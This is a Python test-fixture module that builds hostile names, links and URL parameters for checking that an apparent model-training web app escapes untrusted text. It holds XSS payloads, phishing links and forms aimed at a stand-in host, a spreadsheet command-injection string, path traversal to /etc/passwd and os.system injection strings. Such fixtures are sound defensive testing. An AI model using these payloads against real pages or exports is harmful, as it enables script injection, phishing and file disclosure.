"""Names and links as somebody would write them who wants a page, a file or a program to do
something else.

Every page and every export is tried with them: tests/test_hostile_text.py and
tests/browser/test_hostile_text.py.
"""

import base64
import json
import zlib
from typing import Any
from urllib.parse import quote

HOST = "evil.example"  # belongs to nobody

NAMES: dict[str, str] = {  # by what each tries
    "Markdown image": f"![x](http://{HOST}/i.png)",
    "Markdown image by reference": f"![x][y] [y]: http://{HOST}/i.png",
    "Markdown link": f"[Session expired, log in again](https://{HOST}/login)",
    "bare address": f"https://{HOST}/login",
    "bare www": f"www.{HOST}/login",
    "e-mail": f"teacher@{HOST}",
    "autolink": f"<https://{HOST}>",
    "HTML image": f"<img src=//{HOST}/b.gif>",
    "HTML handler": "<img src=x onerror=alert(1)>",
    "HTML link": f"<a href='https://{HOST}'>EXAM</a>",
    "HTML font": "<font size=7 color=red>EXAM CANCELLED</font>",
    "HTML form": f"<form action=//{HOST}><input name=pw></form>",
    "HTML script": "<script>alert(1)</script>",
    "HTML style": "<style>body{display:none}</style>",
    "HTML frame": f"<iframe src=//{HOST}></iframe>",
    "end of an attribute": f"\"><img src=//{HOST}/c.gif><b title='",
    "entity": "&lt;b&gt; &#60;i&#62;",
    "heading": "# EXAM CANCELLED",
    "numbered list": "1. first",
    "list": "- first",
    "quotation": "> first",
    "rule": "---",
    "emphasis": "**bold** _thin_ `code` ~~gone~~",
    "my_net_2": "my_net_2 *new*",
    "emoji and icons": ":smile: :+1: :material/delete: :streamlit:",
    "colours": ":red[alarm] :blue-background[x] :small[y]",
    "formula": r"$\frac{1}{2}$ \(x\)",
    "table": "a | b\n|---|---|",
    "arrows": "a -> b <-> c -- d >= e",
    "spreadsheet formula": f'=HYPERLINK("http://{HOST}","x")',
    "spreadsheet command": "+1+cmd|' /C calc'!A0",
    "spreadsheet minus": "-2+3",
    "spreadsheet at": "@SUM(1)",
    "spreadsheet after a semicolon": "a;=1+1",
    "control characters": "n\x00u\x08l\x0bl\ufffe\x7f",
    "half a character, once it is joined": "\U0001d54f\ufdd0",
    "turned reading": "\u202egnp.exe\u2066",
    "nothing to be seen": "\u200bnet\ufeff\u2060",
    "terminal": "\x1b[2J\x1b]0;owned\x07\x9b31m",
    "end of a docstring": '"""\nimport os\nos.system("exit 1")\n"""',
    "end of a call": "'); import os; os.system('exit 1'); ('",
    "backslashes": "\\ \\N{DASH} \\x41\\",
    "template": "{model} {0} %s <scores>",
    "a class that scripts use": "Path",
    "its lower case": "path",
    "module": "torch",
    "builtin": "exception",
    "keyword": "class",
    "folder": "../../etc/passwd",
    "device": "CON",
    "separators": "wide, deep; saved:x, run:y & z=1 ?a=2#b",
    "field of a chart": "datum['x'].y[0]",
    "other scripts": "Сеть 3 网络 نام‌ها 👩‍👩‍👧",
    "long": "W" * 118,
}


def packed(data: Any) -> str:
    """Any data as the text of a link, whether or not it is work that can be shown."""
    text = json.dumps(data).encode()
    return f"1.{base64.urlsafe_b64encode(zlib.compress(text, 9)).decode().rstrip('=')}"


def broken_links(text: str) -> dict[str, str]:
    """Links that cannot be shown, each with the text in another place, by that place."""
    network = {"name": "x", "layers": []}
    return {
        "text": text,
        "kind": packed({"architecture": {**network, "layers": [{"kind": text}]}}),
        "value": packed(
            {"architecture": {**network, "layers": [{"kind": "ReLU", "inplace": text}]}}
        ),
        "argument": packed({"architecture": {**network, "layers": [{"kind": "ReLU", text: 1}]}}),
        "shape": packed({"architecture": {**network, "input_shape": text}}),
        "field": packed({"architecture": {**network, text: 1}}),
        "version": packed({"architecture": {**network, "schema_version": text}}),
        "part": packed({"architecture": network, text: 1}),
        "optimiser": packed({"architecture": network, "recipe": {"optimizer": {"kind": text}}}),
        "recipe": packed({"architecture": network, "recipe": {text: 1}}),
        "images": packed({"architecture": network, "recipe": {"dataset": text}}),
        "assignment": packed({"architecture": network, "assignment": {text: 1}}),
    }


def addresses(text: str) -> list[str]:
    """Paths of every page that hold the text where the page reads its address."""
    told = quote(text, safe="")
    return [
        f"/?a={told}",
        f"/?run={told}",
        f"/?page=train&run={told}",
        f"/?page=train&a={told}",
        f"/?page=compare&compare={told}",
        f"/?page=compare&compare=saved%3A{told},run%3A{told}",
        f"/?page=compare&view={told}",
        f"/?page=runs&run={told}",
        *(
            f"/?a={quote(link, safe='')}"
            for place, link in broken_links(text).items()
            if place != "text"
        ),
    ]
